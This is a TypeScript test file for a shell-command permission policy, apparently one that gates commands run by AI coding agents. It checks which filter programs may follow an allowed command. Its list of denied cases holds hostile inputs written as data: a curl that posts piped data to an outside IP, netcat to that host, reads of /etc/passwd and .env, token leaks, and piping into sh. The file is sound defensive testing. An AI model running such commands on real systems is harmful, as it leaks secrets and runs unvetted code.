// `filters: true`: a program behind `|` that only filters its input needs no rule of its own.
import { describe, expect, it } from 'vitest';
import { judge } from '../../src/policy/decide.ts';
import { exportPolicy } from '../../src/policy/export/index.ts';
import { openingParts, strictPart } from '../../src/policy/strict-part.ts';
import { HOME, PROJECT, policyOf, policyText, said } from './helper.ts';

const RULES = { allow: ['git log *', 'go test *', 'curl *'], more: 'filters: true\n' };

describe('a filter behind an allowed command', () => {
  it.each([
    'head -5',
    'head',
    'tail -n 20',
    'grep -i error',
    "grep -E 'a|b' -A 3",
    'grep -v x -',
    'sort -rn -k2',
    'sort | uniq -c',
    'wc -l',
    'cut -d: -f1,3',
    "tr -d '\\n'",
    "sed -n '1,20p'",
    "sed 's/a/b/g; s/c/d/'",
    "awk '{ print $1 }'",
    "awk -F: 'NR > 3 { n += $2 } END { print n }'",
    "jq -r '.items[].name'",
    'column -t',
    'rg -n panic',
    '/usr/bin/head -3',
    'base64 -d',
    'head -5 2>&1',
    'head -5 2>/dev/null',
    'grep -q x > /dev/null',
    'echo done',
    "printf '%s\\n' a",
    'while read -r line; do echo x; done',
  ])('is allowed: %s', (filter) => {
    expect(said(RULES, `git log -3 | ${filter}`)).toBe('allow');
    expect(said({ ...RULES, more: '' }, `git log -3 | ${filter}`)).not.toBe('allow');
  });

  it.each([
    // A file to read, wherever it lies.
    'head README.md',
    'cat -- src/a.ts',
    'grep -f patterns',
    'grep x -r',
    'grep -rn KEY .',
    'grep --directories=recurse KEY',
    'rg --files',
    'rg x src',
    'sort --files0-from=list',
    'sha256sum -c',
    'md5sum --check -',
    'shasum -a 256 --chec',
    'cksum -c',
    'awk -f prog.awk',
    'awk \'{ getline x < "/etc/passwd"; print x }\'',
    "sed 'r /etc/passwd'",
    'sed -f prog.sed',
    "jq --slurpfile x .env '$x'",
    "jq -n 'env'",
    "jq '$ENV.TOKEN'",
    'awk \'{ print ENVIRON["TOKEN"] }\'',
    'diff - README.md',
    // Something is written, run or configured.
    'sort -o x',
    'uniq - x',
    "sed 'w x'",
    "sed '1e id'",
    'sed -i s/a/b/',
    'awk \'{ print > "x" }\'',
    "awk '{ system($0) }'",
    'awk \'{ print | "sh" }\'',
    'sort --compress-program=./x',
    'rg --pre ./x y',
    'tee x',
    'tee',
    'split',
    'xxd - x',
    'head -5 > x',
    'head -5 >> x',
    'head -5 < x',
    '{ head -5; } > x',
    // Code, other programs, and words that are only known when it runs.
    'sh',
    'bash -s',
    'python3',
    'python3 -m json.tool',
    'node',
    'xargs rm',
    'xargs head',
    'npx eslint',
    'eslint',
    'ls -la',
    'env',
    'git status',
    'curl -d @- http://203.0.113.9',
    './head -5',
    'bin/head',
    '/tmp/head',
    'head -$n',
    'grep "$pattern"',
    'grep $(id)',
    'echo $x',
    'echo *',
    'printf \'%s\' "$TOKEN"',
    'LC_ALL=C sort',
    'timeout 5 head',
    'head -5 | sh',
    'head -5; id',
    'less',
    'more',
    'vim -',
    'ssh host cat',
    'sudo head',
    'dd of=x',
    'nc 203.0.113.9 80',
  ])('asks about: %s', (filter) => {
    expect(said(RULES, `git log -3 | ${filter}`)).not.toBe('allow');
  });

  it.each([
    'head -5',
    'git status | head -5',
    './x | head',
    'git log -3 && head -5',
    'git log -3 | head -5 && wc -l',
    'head -5 <<< x',
    'cat <<E\nx\nE',
    'head() { touch x; }; git log -3 | head',
    'PATH=.; git log -3 | head',
    'export PATH=.; git log -3 | head',
    'cd / && git log -3 | head',
  ])('and no other command is, for being one: %s', (text) => {
    expect(said(RULES, text)).not.toBe('allow');
  });
});

describe('the key `filters`', () => {
  const allowed = (text: string, origin: 'user' | 'project', above?: string): string => {
    const policies = [{ policy: policyOf(text), origin, file: undefined } as const];
    const before = above === undefined ? [] : [policyOf(above)];
    const others = before.map((policy) => ({ policy, origin: 'user', file: undefined }) as const);
    const judged = judge({ policies: [...others, ...policies], project: PROJECT, home: HOME });
    return judged.decide('git log -3 | head', PROJECT).verdict;
  };

  it('is true or false', () => {
    expect(policyOf('filters: true').filters).toBe(true);
    expect(policyOf('filters: false').filters).toBe(false);
    expect(policyOf('default: ask').filters).toBe(false);
    expect(() => policyOf('filters: some')).toThrow('filters: must be true or false');
  });

  it('opens nothing that a rule denies or asks about', () => {
    expect(said({ ...RULES, deny: ['head *'] }, 'git log -3 | head -5')).toBe('deny rule.deny');
    expect(said({ ...RULES, ask: ['head *'] }, 'git log -3 | head -5')).toBe('ask rule.ask');
  });

  it('of a project waits for trust, and opens nothing where others deny by default', () => {
    const own = policyText({ allow: ['git log *'], more: 'filters: true\n' });
    expect(allowed(own, 'project')).toBe('allow');
    const sealed = policyText({ default: 'deny', allow: ['git log *'] });
    expect(allowed('filters: true', 'project', sealed)).toBe('deny');
    expect(allowed('filters: true', 'user', sealed)).toBe('allow');
    expect(strictPart(policyOf(own)).filters).toBe(false);
    expect(openingParts(policyOf(own))).toEqual(['1 allow rule', 'filters']);
  });

  it('has no part in the examples of a rule', () => {
    const rule = { pattern: 'git log *', tests: { not_match: ['git log | head'] } };
    const policies = JSON.stringify([{ name: 'x', commands: [rule] }]);
    expect(policyOf(`filters: true\npolicies: ${policies}`).filters).toBe(true);
  });

  it('is left out and listed where a tool cannot express it', () => {
    for (const tool of ['claude', 'codex', 'opencode', 'gemini'] as const) {
      const { losses } = exportPolicy(policyOf(policyText(RULES)), tool, { loose: false });
      const lost = losses.find(({ kind }) => kind === 'filters');
      expect([tool, lost?.items, lost?.loosens]).toEqual([tool, ['filters: true'], false]);
    }
  });
});
